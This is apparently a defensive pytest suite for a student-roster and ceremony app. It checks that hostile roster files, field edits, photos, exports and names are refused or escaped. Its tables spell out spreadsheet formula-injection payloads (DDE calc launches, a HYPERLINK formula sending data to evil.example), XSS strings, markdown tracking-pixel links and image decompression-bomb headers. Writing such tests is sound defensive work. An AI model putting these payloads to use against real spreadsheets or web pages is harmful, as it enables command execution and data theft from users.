"""The hostile-input corpus: each input goes through the real entry point, gets a clear error, and changes nothing.

One table per entry point (roster import and hand edits, photos, exports, the big-screen views). Inputs that
are legitimate text but dangerous when shown or opened elsewhere (HTML in a name, a formula in an export) are
accepted and must come out neutralised. Older, narrower tests of the same code stay where they are
(tests/core/test_roster.py, test_exports.py, tests/faces/test_faces.py, tests/app/test_ceremony_pages.py).
"""

from __future__ import annotations

import csv as csvlib
import io
import re
import struct
import zlib

import cv2
import numpy as np
import openpyxl
import pandas as pd
import pytest

from core import exports, people
from core.faces.images import ImageError, decode_image
from core.people import PersonError
from core.roster import RosterFileError, parse_roster
from core.services import Rollcall
from tests.app.conftest import as_user, camera, seeded, seeded_template  # noqa: F401 - fixtures

# ------------------------------------------------------------------------------------------------ rosters

HEAD = "student id,name,guardian,department\n"
GOOD = "6501001,Ann Lee,Mary Lee,Engineering\n6501002,Bob Ray,Tom Ray,Science\n"


def xlsx(rows: list[list]) -> bytes:
    """A workbook whose cells are all text (a cell typed as text may still start with "=")."""
    book = openpyxl.Workbook()
    for r, row in enumerate(rows, 1):
        for c, value in enumerate(row, 1):
            book.active.cell(r, c, value).data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv(*lines: str) -> bytes:
    return (HEAD + GOOD + "".join(line + "\n" for line in lines)).encode()


# (id, file bytes, file name, the error a person sees). Whole-file errors and row errors alike import nothing.
ROSTERS = [
    ("random-bytes", bytes(range(256)) * 16, "r.csv", "is not a CSV or Excel file"),
    ("utf-32", (HEAD + GOOD).encode("utf-32"), "r.csv", "is not a CSV or Excel file"),
    ("nul-bytes", csv("6501003,Ca\x00rl,,Eng") + b"\x00" * 64, "r.csv", "is not a CSV or Excel file"),
    ("empty", b"", "r.csv", "empty"),
    ("not-xlsx", b"PK\x03\x04" + bytes(200), "r.xlsx", "damaged|not a CSV or Excel|ZIP"),
    ("no-id-column", b"name,phone\nAnn,0812345678\n", "r.csv", "no column for the student id"),
    ("no-name-column", b"student id,phone\n6501001,0812345678\n", "r.csv", "no column for the name"),
    ("duplicate-ids", csv("6501001,Ann Again,,Eng"), "r.csv", "student id '6501001' is repeated; first used on row 2"),
    ("duplicate-ids-case", b"student id,name\nS001,Ann\ns001,Bob\n", "r.csv", "is repeated"),
    ("formula-dde", csv("6501003,=cmd|' /C calc'!A0,,Eng"), "r.csv", "starts with '=' like a spreadsheet formula"),
    ("formula-plus", csv("6501003,+1+cmd|' /C calc'!A0,,Eng"), "r.csv", "starts with '\\+' like a spreadsheet"),
    ("formula-minus", csv("6501003,Carl,,-2+3+cmd|' /C calc'!A0"), "r.csv", "starts with '-' like a spreadsheet"),
    ("formula-at", csv("6501003,Carl,@SUM(1+1)*cmd|' /C calc'!A0,Eng"), "r.csv", "starts with '@' like a"),
    ("formula-after-tab", csv('6501003,"\t=1+1",,Eng'), "r.csv", "starts with '=' like a spreadsheet formula"),
    ("formula-in-id", csv("=1+2,Carl,,Eng"), "r.csv", "'=1\\+2' is not a student id"),
    ("html-in-id", csv("<script>alert(1)</script>,Carl,,Eng"), "r.csv", "is not a student id"),
    ("long-id", csv("9" * 5000 + ",Carl,,Eng"), "r.csv", "is not a student id"),
    ("10k-name", csv("6501003," + "ก" * 10_000 + ",,Eng"), "r.csv", "name is 10,000 characters long; the limit is 200"),
    ("10k-department", csv("6501003,Carl,," + "x" * 10_000), "r.csv", "department is 10,000 characters long"),
    ("oversized", HEAD.encode() + b"6501003,Carl,,Eng\n" * 700_000, "r.csv", "the limit is 10.0 MB"),
    ("xlsx-formula-text", xlsx([["student id", "name"], ["6501003", "=cmd|' /C calc'!A0"]]), "r.xlsx",
     "starts with '=' like a spreadsheet formula"),
    ("xlsx-html-id", xlsx([["student id", "name"], ["<b>1</b>", "Carl"]]), "r.xlsx", "is not a student id"),
]


@pytest.fixture
def roster_app(app):
    people.commit_import(app, parse_roster((HEAD + GOOD).encode(), "good.csv"), "admin")
    return app


def state(app: Rollcall) -> tuple:
    return app.log.head(), app.db.query("SELECT * FROM people ORDER BY student_id").to_csv()


@pytest.mark.parametrize(("data", "name", "expected"), [c[1:] for c in ROSTERS], ids=[c[0] for c in ROSTERS])
def test_hostile_roster_gets_a_clear_error_and_imports_nothing(roster_app, data, name, expected):
    """The page's and the CLI's path: parse with the configured limits, then commit (all or nothing)."""
    app = roster_app
    before = state(app)
    try:
        preview = parse_roster(data, name, max_bytes=app.settings.max_roster_bytes,
                               max_rows=app.settings.max_roster_rows)
    except RosterFileError as exc:
        message = str(exc)
    else:
        assert preview.errors, f"accepted: {preview.rows[-1:]}"
        message = " | ".join(str(e) for e in preview.errors)
        with pytest.raises(PersonError, match="have errors"):
            people.commit_import(app, preview, "op")
    assert re.search(expected, message), message
    assert len(message) < 2000  # a clear sentence, not a dump of the file
    assert state(app) == before


# (id, field, value, the error). A hand edit on the People page goes through the same rules.
EDITS = [
    ("formula-name", "name", "=cmd|' /C calc'!A0", "like a spreadsheet formula"),
    ("nul-in-name", "name", "Ann\x00Lee", "control characters"),
    ("10k-guardian", "guardian_name", "x" * 10_000, "10,000 characters long"),
    ("html-phone", "phone", "<img src=x onerror=alert(1)>", "is not a phone number"),
    ("formula-email", "email", "=1+1", "is not an e-mail address"),
    ("empty-name", "name", "   ", "cannot be empty"),
]


@pytest.mark.parametrize(("field", "value", "expected"), [c[1:] for c in EDITS], ids=[c[0] for c in EDITS])
def test_hostile_hand_edit_is_refused(roster_app, field, value, expected):
    before = state(roster_app)
    with pytest.raises(PersonError, match=expected):
        people.update(roster_app, "op", "6501001", {field: value}, reason="test")
    assert state(roster_app) == before


# ------------------------------------------------------------------------------------------------- photos

def png_header(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    idat = zlib.compress(b"\x00" * 1000)
    return (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
            + struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat)))


def webp_lossless_header(width: int, height: int) -> bytes:
    bits = (width - 1) | ((height - 1) << 14)
    body = b"\x2f" + struct.pack("<I", bits) + bytes(64)
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def bmp_header(width: int, height: int) -> bytes:
    return (b"BM" + struct.pack("<IHHI", 54, 0, 0, 54)
            + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0) + bytes(64))


GOOD_JPEG = cv2.imencode(".jpg", np.full((480, 640, 3), 120, np.uint8))[1].tobytes()

# (id, bytes, the reason shown). Bombs declare far more pixels than allowed and must be refused before decoding.
PHOTOS = [
    ("zero-bytes", b"", "the file is empty"),
    ("truncated-jpeg", GOOD_JPEG[: len(GOOD_JPEG) // 2], "truncated"),
    ("jpeg-header-only", b"\xff\xd8\xff\xe0" + bytes(20), "truncated|corrupt"),
    ("text", b"these are not pixels" * 50, "not an image"),
    ("html", b"<html><script>alert(1)</script></html>", "not an image"),
    ("png-bomb", png_header(50_000, 50_000), "50000×50000 pixels is too large"),
    ("png-bomb-wide", png_header(400_000, 1_000), "400000×1000 pixels is too large"),
    ("webp-bomb", webp_lossless_header(16_000, 16_000), "too large"),
    ("bmp-bomb", bmp_header(20_000, 20_000), "too large"),
    ("ppm-bomb", b"P6\n30000 30000\n255\n" + bytes(100), "too large"),
    ("oversized", b"\xff\xd8\xff" + bytes(15_000_001), "larger than the 15 MB limit"),
]


@pytest.mark.parametrize(("data", "expected"), [c[1:] for c in PHOTOS], ids=[c[0] for c in PHOTOS])
def test_hostile_photo_gets_a_plain_reason_from_the_decoder(settings, data, expected):
    """Every upload path (enrollment, identify, the ceremony camera, device frames) decodes through here."""
    with pytest.raises(ImageError, match=expected) as caught:
        decode_image(data, "upload.jpg", max_bytes=settings.max_image_bytes, max_pixels=settings.max_image_pixels)
    assert str(caught.value).startswith("upload.jpg: ") and len(str(caught.value)) < 200


def test_hostile_photos_through_enrollment_store_nothing(roster_app):
    """The real entry point: each photo gets a verdict with its reason, and no template is stored."""
    app = roster_app
    app.faces.record_consent("6501001", "signed form", "test")
    before = state(app)
    verdicts = app.faces.enroll("6501001", [(c[0], c[1]) for c in PHOTOS], "op")
    for (name, _, expected), verdict in zip(PHOTOS, verdicts, strict=True):
        assert verdict.name == name and not verdict.accepted and re.search(expected, verdict.reason), verdict
    assert app.db.scalar("SELECT count(*) FROM face_templates") == 0
    assert state(app) == before


# ------------------------------------------------------------------------------------------------ exports

# (id, a cell's text, what a spreadsheet must show). Text that starts like a formula keeps an apostrophe.
CELLS = [
    ("dde", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3", "'-2+3"),
    ("at", "@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("tab", "\t=1+1", "'\t=1+1"),
    ("carriage-return", "\r=1+1", "'\r=1+1"),
    ("row-split", "Ann\r=cmd|' /C calc'!A0", "Ann\r=cmd|' /C calc'!A0"),  # quoted: no new row starts at "="
    ("newline-split", "Ann\n@SUM(1)", "Ann\n@SUM(1)"),
    ("html", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("thai", "สมชาย ใจดี", "สมชาย ใจดี"),
]
# Characters a worksheet cannot hold are dropped from Excel cells (one used to fail the whole export).
EXCEL_ONLY = [
    ("bell", "Ann\x07 Lee", "Ann Lee"),
    ("nul-then-formula", "\x00=1+1", "'=1+1"),
    ("escape-sequence", "\x1b[31mred", "[31mred"),
    ("40k-chars", "y" * 40_000, "y" * 32_767),
]


def export_frame(values: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"student_id": [f"65010{n:02d}" for n in range(len(values))], "name": values})


def test_hostile_cells_are_neutralised_in_csv():
    data = b"".join(exports.csv_stream([export_frame([c[1] for c in CELLS])]))
    _, *rows = csvlib.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    for (case, _, shown), (_, got) in zip(CELLS, rows, strict=True):
        assert got == shown, case


def test_hostile_cells_are_text_in_excel():
    cases = CELLS + EXCEL_ONLY
    sheet = openpyxl.load_workbook(io.BytesIO(exports.excel_bytes([export_frame([c[1] for c in cases])]))).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    for (case, _, shown), cell in zip(cases, cells, strict=True):
        assert cell.data_type == "s", (case, cell.data_type)  # a string, never a formula
        assert cell.value == shown.replace("\r", "\n") or cell.value == shown, case


# ------------------------------------------------------------------------------------ board and announcer

HOSTILE_NAMES = ["<script>alert('x')</script>", "\"><img src=x onerror=alert(1)>", "</div><h1>fake</h1>",
                 "<b>สมชาย</b> & ใจดี"]


def test_html_in_names_is_escaped_on_the_board_and_the_announcer(seeded):  # noqa: F811 - the fixture
    from core import ceremonies
    from core.config import PROJECT_ROOT

    app = Rollcall(seeded)
    cid = app.db.scalar("SELECT ceremony_id FROM ceremonies")
    order = app.db.query("SELECT student_id FROM ceremony_entries WHERE ceremony_id = ? ORDER BY order_no "
                         "LIMIT 4", [cid])["student_id"]
    for sid, name in zip(order, HOSTILE_NAMES, strict=True):
        people.update(app, "admin", sid, {"name": name, "name_en": name, "department": name}, reason="test")
    ceremonies.act(app, "op", cid, "ceremony.started")
    ceremonies.call_next(app, "op", cid)
    app.close()
    for page in ("board", "announcer"):
        at = as_user(str(PROJECT_ROOT / "pages" / f"{page}.py"), "vi").run()
        assert not at.exception, at.exception
        body = " ".join(h.proto.body for h in at.get("html"))
        for name in HOSTILE_NAMES if page == "board" else HOSTILE_NAMES[:3]:  # the announcer shows the next two
            assert name not in body, (page, name)
            assert name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in body.replace(
                "&quot;", '"').replace("&#x27;", "'"), (page, name)


MARKDOWN_NAMES = ["![x](http://evil.example/pixel.png)", "[click](http://evil.example) :red[red] **bold**",
                  "$\\frac{1}{0}$ <http://evil.example> ~~struck~~"]


def test_markdown_in_names_is_shown_as_typed_on_the_console_and_the_people_page(seeded):  # noqa: F811 - fixture
    """Streamlit renders markdown: a name must not become an image that browsers fetch, a link, maths or colour."""
    from core import ceremonies
    from core.config import PROJECT_ROOT
    from pages._ui import plain

    app = Rollcall(seeded)
    cid = app.db.scalar("SELECT ceremony_id FROM ceremonies")
    first = app.db.scalar("SELECT student_id FROM ceremony_entries WHERE ceremony_id = ? ORDER BY order_no "
                          "LIMIT 1", [cid])
    people.update(app, "admin", first, {"name": MARKDOWN_NAMES[0], "name_en": MARKDOWN_NAMES[1]}, reason="test")
    ceremonies.act(app, "op", cid, "ceremony.started")
    ceremonies.call_next(app, "op", cid)
    app.close()
    at = as_user(str(PROJECT_ROOT / "pages" / "ceremony.py"), "op").run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown]
    assert f"## {plain(MARKDOWN_NAMES[0])}" in shown
    for name in MARKDOWN_NAMES:
        assert plain(name) != name and not any(name in text for text in shown)
    assert plain("สมชาย ใจดี (Somchai) 6501001.csv") == "สมชาย ใจดี (Somchai) 6501001.csv"  # plain text unchanged
